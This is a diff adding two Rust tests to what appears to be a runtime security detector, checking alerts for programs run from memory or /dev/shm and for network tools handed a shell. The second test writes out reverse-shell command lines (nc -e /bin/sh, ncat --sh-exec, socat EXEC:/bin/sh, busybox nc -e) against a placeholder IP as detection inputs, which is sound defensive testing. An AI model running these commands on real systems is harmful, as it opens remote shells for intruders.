@@ -112,3 +112,39 @@ fn a_program_written_after_the_start_is_told() {
     assert_eq!(world.run("/usr/bin/ls").in_pod().below(&["sh"]).rules(), [""; 0]);
     assert_eq!(world.run("/tmp/x").with(|_, exec| exec.upper_layer = true).rules(), [""; 0], "on the node");
 }
+
+#[test]
+fn what_runs_without_a_file_or_from_shared_memory_is_told() {
+    let mut world = world();
+    let said = world.run("memfd:x").in_pod().below(&["sh"]).with(|_, exec| exec.memfd = true).go().said;
+    assert_eq!(world::titles(&said), ["Program run from memory"]);
+    names_the_pod(&said[0]);
+    assert_eq!(world.run("x").below(&["runc"]).with(|_, exec| exec.memfd = true).rules(), [""; 0]);
+    let said = world.run("/dev/shm/x").in_pod().below(&["sh"]).go().said;
+    assert_eq!(world::titles(&said), ["Program run from shared memory"]);
+    names_the_pod(&said[0]);
+    assert_eq!(world.run("sh").cwd("/dev/shm").args(&["./x"]).rules(), ["Program run from shared memory"]);
+    assert_eq!(world.run("sh").cwd("/srv").args(&["./x"]).rules(), [""; 0]);
+    assert_eq!(world.run("/usr/bin/x").cwd("/dev/shm").rules(), [""; 0]);
+}
+
+#[test]
+fn a_network_tool_that_is_given_a_program_is_told() {
+    let mut world = world();
+    let said =
+        world.run("nc").in_pod().below(&["sh"]).args(&["192.0.2.1", "4444", "-e", "/bin/sh"]).go().said;
+    assert_eq!(world::titles(&said), ["Network tool given a shell"]);
+    names_the_pod(&said[0]);
+    for (program, args, expected) in [
+        ("nc", &["-zv", "db", "5432"][..], false),
+        ("ncat", &["--sh-exec", "sh", "192.0.2.1", "1"], true),
+        ("socat", &["TCP:192.0.2.1:1", "EXEC:/bin/sh"], true),
+        ("socat", &["TCP-LISTEN:80,fork", "TCP:db:80"], false),
+        ("busybox", &["nc", "192.0.2.1", "1", "-e", "sh"], true),
+        ("curl", &["-e", "x"], false),
+    ] {
+        let said = world.run(program).in_pod().args(args).rules();
+        assert_eq!(said, ["Network tool given a shell"][..usize::from(expected)], "{program} {args:?}");
+    }
+    assert_eq!(world.run("nc").args(&["-e", "sh"]).rules(), [""; 0], "on the node");
+}
